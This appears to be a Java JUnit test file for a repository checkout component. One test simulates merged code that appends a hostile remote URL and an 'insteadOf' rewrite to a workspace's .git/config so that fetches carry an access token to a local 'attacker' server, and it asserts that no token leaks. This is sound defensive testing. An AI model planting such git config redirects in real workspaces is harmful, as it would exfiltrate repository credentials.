package io.livegate.scan.repo;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.livegate.core.LivegateException;
import io.livegate.scan.testing.TestRepo;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A workspace checked out at any commit of the repository, whatever its branch head is. */
class CheckoutTest {
  @TempDir Path dir;

  @Test
  void aCommitOlderThanTheBranchHeadIsCheckedOutAfterAFreshCloneAndTheWorkspaceFollowsLater()
      throws Exception {
    TestRepo repo = TestRepo.create(dir.resolve("live"));
    repo.write("app/main.tf", "first\n");
    String first = repo.commit("first");
    repo.write("app/main.tf", "second\n");
    String second = repo.commit("second");
    Checkout checkout = new Checkout(repo.root().toString(), Optional.empty());
    Path workspace = dir.resolve("workspace");

    checkout.at(workspace, first);
    assertThat(Files.readString(workspace.resolve("app/main.tf"))).isEqualTo("first\n");

    checkout.at(workspace, second);
    assertThat(Files.readString(workspace.resolve("app/main.tf"))).isEqualTo("second\n");
  }

  @Test
  void mergedCodeThatRewritesTheWorkspacesGitConfigNeverReceivesTheToken() throws Exception {
    List<String> received = new CopyOnWriteArrayList<>();
    HttpServer attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
    attacker.createContext(
        "/",
        exchange -> {
          String authorization = exchange.getRequestHeaders().getFirst("Authorization");
          received.add(exchange.getRequestURI() + " " + authorization);
          if (authorization == null) {
            exchange.getResponseHeaders().add("WWW-Authenticate", "Basic realm=\"git\"");
            exchange.sendResponseHeaders(401, -1);
          } else {
            exchange.sendResponseHeaders(404, -1);
          }
          exchange.close();
        });
    attacker.start();
    try {
      TestRepo repo = TestRepo.create(dir.resolve("live"));
      repo.write("app/main.tf", "first\n");
      String first = repo.commit("first");
      Checkout checkout =
          new Checkout(repo.root().toString(), Optional.of(() -> "ghs_livegates-token"));
      Path workspace = checkout.at(dir.resolve("workspace"), first);
      // what the deployed code does in the workspace it runs in
      String server = "http://127.0.0.1:" + attacker.getAddress().getPort() + "/";
      Files.writeString(
          workspace.resolve(".git/config"),
          "[remote \"origin\"]\n\turl = "
              + server
              + "live.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
              + "[url \""
              + server
              + "\"]\n\tinsteadOf = "
              + repo.root()
              + "\n",
          StandardOpenOption.APPEND);
      Files.writeString(workspace.resolve("app/x_override.tf"), "planted\n");
      repo.write("app/main.tf", "second\n");
      String second = repo.commit("second");

      String outcome;
      try {
        checkout.at(workspace, second);
        outcome = "checked out";
      } catch (LivegateException e) {
        outcome = e.getMessage();
      }

      System.out.println(
          "the next checkout: " + outcome + "; the attacker's server got: " + received);
      assertThat(received).as("requests to the attacker's server").isEmpty();
      assertThat(outcome).isEqualTo("checked out");
      assertThat(Files.readString(workspace.resolve("app/main.tf"))).isEqualTo("second\n");
      assertThat(workspace.resolve("app/x_override.tf")).as("the planted file").doesNotExist();
    } finally {
      attacker.stop(0);
    }
  }
}
